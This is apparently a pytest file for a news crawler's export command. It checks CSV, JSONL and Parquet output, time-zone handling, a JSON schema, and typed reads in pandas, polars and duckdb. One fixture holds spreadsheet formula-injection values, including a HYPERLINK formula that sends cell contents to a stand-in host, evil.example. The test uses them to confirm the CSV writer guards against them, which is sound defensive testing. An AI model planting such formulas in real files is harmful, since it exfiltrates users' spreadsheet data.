from __future__ import annotations

import copy
import csv
import json
import sqlite3
import subprocess
from datetime import UTC, date, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

import duckdb
import pandas
import polars
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from jsonschema import Draft202012Validator

from crawler.commands.export import (
    EXPORT_COLUMNS,
    PARQUET_SCHEMA,
    default_output,
    iter_articles,
    parse_csv_row,
    since_instant,
    to_jsonable,
    write_export,
)
from crawler.domain.identity import article_id
from crawler.domain.items import EXPORT_FIELDS
from pipelines.schema import CHANGE_COLUMNS, from_arrow_row
from pipelines.storage.store import ArticleStore
from tests.crawl_runner import run_scrapy

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

PROJECT_ROOT = Path(__file__).resolve().parent.parent
SCHEMA = json.loads(
    (PROJECT_ROOT / "pipelines" / "schema" / "article.schema.json").read_text(encoding="utf-8")
)
VALIDATOR = Draft202012Validator(SCHEMA, format_checker=Draft202012Validator.FORMAT_CHECKER)


@pytest.fixture
def filled_store(
    database_url: str, make_article_record: Callable[..., dict[str, Any]]
) -> Iterator[ArticleStore]:
    store = ArticleStore(database_url)
    store.write_batch(
        [
            make_article_record("late", body_text="L", published_at="2023-03-05T08:00:00+07:00"),
            make_article_record("undated", body_text="U", published_at=None),
            # 00:30 in Ho Chi Minh City is still the previous day in UTC.
            make_article_record("b-early", body_text="E", published_at="2023-01-18T00:30:00+07:00"),
            make_article_record("a-early", body_text="A", published_at="2023-01-18T00:30:00+07:00"),
            make_article_record(
                "before",
                body_text="Trước",
                published_at="2023-01-17T23:59:00+07:00",
                problems=[{"field": "author", "code": "missing_author", "message": "không có"}],
                attachments=[{"url": "https://hepza.hochiminhcity.gov.vn/d/a.pdf", "title": None}],
                images=[],
            ),
        ],
        "run-1",
    )
    yield store
    store.close()


def database_rows(store: ArticleStore) -> list[dict[str, Any]]:
    return [to_jsonable(row) for row in iter_articles(store.engine)]


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def read_csv(path: Path) -> list[dict[str, Any]]:
    with path.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        assert tuple(reader.fieldnames or ()) == EXPORT_COLUMNS
        return [parse_csv_row(row) for row in reader]


def read_parquet(path: Path) -> list[dict[str, Any]]:
    table = pq.read_table(path)
    assert table.schema.equals(PARQUET_SCHEMA)
    return [from_arrow_row(row, EXPORT_COLUMNS) for row in table.to_pylist()]


READERS = {"jsonl": read_jsonl, "csv": read_csv, "parquet": read_parquet}


def test_export_order_is_published_then_id_undated_last(filled_store):
    slugs = [row["url"].rsplit("/", 1)[1] for row in database_rows(filled_store)]
    # Same instant: the id decides.
    base = "https://hepza.hochiminhcity.gov.vn/w/"
    early = sorted(["a-early", "b-early"], key=lambda slug: article_id(base + slug))
    assert slugs == ["before", *early, "late", "undated"]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_matches_the_database_row_for_row(filled_store, tmp_path, fmt):
    output = tmp_path / "out" / f"snapshot.{fmt}"
    assert write_export(filled_store.engine, fmt, output) == 5
    exported = READERS[fmt](output)
    assert exported == database_rows(filled_store)
    assert [list(row) for row in exported] == [list(EXPORT_COLUMNS)] * 5
    for row in exported:
        VALIDATOR.validate(row)
    assert not list(output.parent.glob(".*partial"))


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "summary": "+84 28 3829 1234",
    "author": "@SUM(1+1)",
    "category": "-Tin tức",
    "body_text": "\tĐoạn một.",
}


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_a_formula_in_text_is_guarded_in_csv_only_and_reads_back_exactly(
    database_url, make_article_record, tmp_path, fmt
):
    store = ArticleStore(database_url)
    store.write_batch([make_article_record("formula", **FORMULAS)], "run-1")
    output = tmp_path / f"formula.{fmt}"
    assert write_export(store.engine, fmt, output) == 1
    store.close()
    [row] = READERS[fmt](output)
    assert {name: row[name] for name in FORMULAS} == FORMULAS
    if fmt != "csv":
        return
    with output.open(encoding="utf-8", newline="") as fh:
        [raw] = list(csv.DictReader(fh))
    assert {name: raw[name] for name in FORMULAS} == {
        name: "'" + value for name, value in FORMULAS.items()
    }
    # every other cell of the row begins with something a spreadsheet shows as it is
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in raw.values())


def test_jsonl_keeps_vietnamese_unescaped(filled_store, tmp_path):
    output = tmp_path / "snapshot.jsonl"
    write_export(filled_store.engine, "jsonl", output)
    text = output.read_text(encoding="utf-8")
    assert "Tiêu đề late" in text
    assert "\\u" not in text


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_since_keeps_the_site_day_inclusive(filled_store, tmp_path, fmt):
    since = since_instant(date(2023, 1, 18), "Asia/Ho_Chi_Minh")
    assert since == datetime(2023, 1, 17, 17, 0, tzinfo=UTC)
    output = tmp_path / f"since.{fmt}"
    assert write_export(filled_store.engine, fmt, output, since) == 3
    slugs = {row["url"].rsplit("/", 1)[1] for row in READERS[fmt](output)}
    assert slugs == {"a-early", "b-early", "late"}


def test_empty_database_exports_an_empty_parquet_with_the_schema(database_url, tmp_path):
    store = ArticleStore(database_url)
    output = tmp_path / "empty.parquet"
    assert write_export(store.engine, "parquet", output) == 0
    store.close()
    table = pq.read_table(output)
    assert table.num_rows == 0
    assert table.schema.field("first_seen").type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("tags").type == pa.list_(pa.string())
    assert table.schema.field("summary_truncated").type == pa.bool_()


def test_default_output_name():
    when = datetime(2024, 5, 2, 9, 15, 30, tzinfo=UTC)
    assert default_output("parquet", when) == Path(
        "output/exports/articles-20240502T091530Z.parquet"
    )
    assert default_output("csv", when, site="hepza") == Path(
        "output/exports/hepza-20240502T091530Z.csv"
    )


def run_scrapy_export(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_scrapy(cwd, "export", *args)


def test_scrapy_export_command(filled_store, database_url, tmp_path):
    result = run_scrapy_export(
        tmp_path, "--format", "jsonl", "--since", "2023-01-18", "-s", f"DATABASE_URL={database_url}"
    )
    assert result.returncode == 0, result.stderr
    [written] = (tmp_path / "output" / "exports").glob("articles-*Z.jsonl")
    assert f"exported 3 articles to {written.relative_to(tmp_path)}" in result.stdout
    expected = [
        row for row in database_rows(filled_store) if row["url"].rsplit("/", 1)[1] != "before"
    ]
    assert read_jsonl(written) == [row for row in expected if row["published_at"]]


def test_scrapy_export_writes_under_output_dir(filled_store, database_url, tmp_path):
    out = tmp_path / "elsewhere"
    result = run_scrapy_export(
        tmp_path, "--format", "csv", "-s", f"DATABASE_URL={database_url}", "-s", f"OUTPUT_DIR={out}"
    )
    assert result.returncode == 0, result.stderr
    [written] = (out / "exports").glob("articles-*Z.csv")
    assert f"exported 5 articles to {written}" in result.stdout
    assert not (tmp_path / "output").exists()


def test_scrapy_export_refuses_a_sqlite_file_that_does_not_exist(tmp_path):
    missing = tmp_path / "mistyped.sqlite3"
    result = run_scrapy_export(
        tmp_path, "--format", "jsonl", "-s", f"DATABASE_URL=sqlite:///{missing}"
    )
    assert result.returncode == 2
    assert result.stderr == f"export: no database at {missing}\n"
    assert result.stdout == ""
    assert not missing.exists()
    assert not (tmp_path / "output").exists()


def test_scrapy_export_refuses_a_database_without_articles(tmp_path):
    empty = tmp_path / "empty.sqlite3"
    with sqlite3.connect(empty) as conn:
        conn.execute("CREATE TABLE notes (text TEXT)")
    conn.close()
    result = run_scrapy_export(tmp_path, "--format", "csv", "-s", f"DATABASE_URL=sqlite:///{empty}")
    assert result.returncode == 2
    assert result.stderr == f"export: no articles table in the database at sqlite:///{empty}\n"
    assert not (tmp_path / "output").exists()


def test_scrapy_export_rejects_a_bad_since(tmp_path):
    result = run_scrapy_export(tmp_path, "--format", "csv", "--since", "18/01/2023")
    assert result.returncode != 0
    assert "--since wants YYYY-MM-DD" in result.stderr


# --- the JSON schema is not vacuous ------------------------------------------------------------


def valid_record(make_article_record: Callable[..., dict[str, Any]]) -> dict[str, Any]:
    record = make_article_record("a")
    assert list(record) == list(EXPORT_FIELDS)
    VALIDATOR.validate(record)
    return record


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("published_at", "2023-01-18T17:48:00"),  # no offset
        ("crawled_at", "18/01/2023 17:48"),
        ("id", "XYZ"),
        ("url", "/w/relative"),
        ("summary_truncated", "yes"),
        ("tags", "đầu tư"),
        ("images", [{"src": "https://x/y.jpg"}]),
        ("problems", [{"field": "title"}]),
        ("content_hash", None),
    ],
)
def test_schema_rejects_malformed_records(make_article_record, field, value):
    record = copy.deepcopy(valid_record(make_article_record))
    record[field] = value
    assert not VALIDATOR.is_valid(record)


def test_schema_rejects_unknown_and_missing_fields(make_article_record):
    record = valid_record(make_article_record)
    assert not VALIDATOR.is_valid({**record, "fetched_url": record["url"]})
    assert not VALIDATOR.is_valid({k: v for k, v in record.items() if k != "problems"})
    # Problem codes are an open list: new codes stay valid.
    problems = [{"field": "x", "code": "brand_new_code", "message": "m"}]
    assert VALIDATOR.is_valid({**record, "problems": problems})


def test_schema_is_valid_draft_2020_12():
    Draft202012Validator.check_schema(SCHEMA)
    assert SCHEMA["required"] == list(EXPORT_FIELDS)
    # change: the feed's and the change feed's; version, changed_fields: the change feed's
    assert list(SCHEMA["properties"]) == list(CHANGE_COLUMNS)
    assert set(CHANGE_COLUMNS) == {*EXPORT_COLUMNS, "change", "version", "changed_fields"}


# --- Parquet is typed for the tools analysts load it with ------------------------------------


@pytest.fixture
def typed_parquet(filled_store: ArticleStore, tmp_path: Path) -> Path:
    output = tmp_path / "typed.parquet"
    assert write_export(filled_store.engine, "parquet", output) == 5
    return output


def test_parquet_read_by_pandas_has_aware_timestamps_bools_and_struct_lists(typed_parquet):
    frame = pandas.read_parquet(typed_parquet).set_index("url")
    for name in ("published_at", "crawled_at", "first_seen", "last_seen"):
        assert str(frame[name].dtype.tz) == "UTC", name
    assert frame["summary_truncated"].dtype == bool
    before = frame.loc["https://hepza.hochiminhcity.gov.vn/w/before"]
    # 23:59 on the 17th in Ho Chi Minh City is 16:59 UTC; the local string keeps the offset
    assert before["published_at"] == pandas.Timestamp("2023-01-17T16:59:00Z")
    assert before["published_at_local"] == "2023-01-17T23:59:00+07:00"
    assert list(before["problems"]) == [
        {"field": "author", "code": "missing_author", "message": "không có"}
    ]
    assert list(before["attachments"]) == [
        {"url": "https://hepza.hochiminhcity.gov.vn/d/a.pdf", "title": None}
    ]
    undated = frame.loc["https://hepza.hochiminhcity.gov.vn/w/undated"]
    assert pandas.isna(undated["published_at"])
    assert pandas.isna(undated["published_at_local"])


def test_parquet_read_by_polars_has_aware_datetimes_and_list_of_structs(typed_parquet):
    frame = polars.read_parquet(typed_parquet)
    for name in ("published_at", "modified_at", "crawled_at", "first_seen", "last_seen"):
        assert frame.schema[name] == polars.Datetime("us", "UTC"), name
    assert frame.schema["summary_truncated"] == polars.Boolean
    assert frame.schema["tags"] == polars.List(polars.String)
    assert frame.schema["images"] == polars.List(
        polars.Struct({"url": polars.String, "caption": polars.String})
    )
    assert frame.schema["problems"] == polars.List(
        polars.Struct({"field": polars.String, "code": polars.String, "message": polars.String})
    )
    codes = frame.select(polars.col("problems").list.eval(polars.element().struct.field("code")))
    assert codes.to_series().to_list().count(["missing_author"]) == 1


def test_parquet_read_by_duckdb_has_timestamptz_and_struct_lists(typed_parquet):
    conn = duckdb.connect()
    types = dict(
        conn.execute(
            "SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet(?))",
            [str(typed_parquet)],
        ).fetchall()
    )
    assert types["published_at"] == "TIMESTAMP WITH TIME ZONE"
    assert types["published_at_local"] == "VARCHAR"
    assert types["first_seen"] == "TIMESTAMP WITH TIME ZONE"
    assert types["summary_truncated"] == "BOOLEAN"
    assert types["tags"] == "VARCHAR[]"
    assert types["images"] == "STRUCT(url VARCHAR, caption VARCHAR)[]"
    assert types["problems"] == "STRUCT(field VARCHAR, code VARCHAR, message VARCHAR)[]"
    [(code, month)] = conn.execute(
        "SELECT p.code, strftime(published_at AT TIME ZONE 'UTC', '%Y-%m') "
        "FROM read_parquet(?), unnest(problems) AS t(p)",
        [str(typed_parquet)],
    ).fetchall()
    assert (code, month) == ("missing_author", "2023-01")
    conn.close()
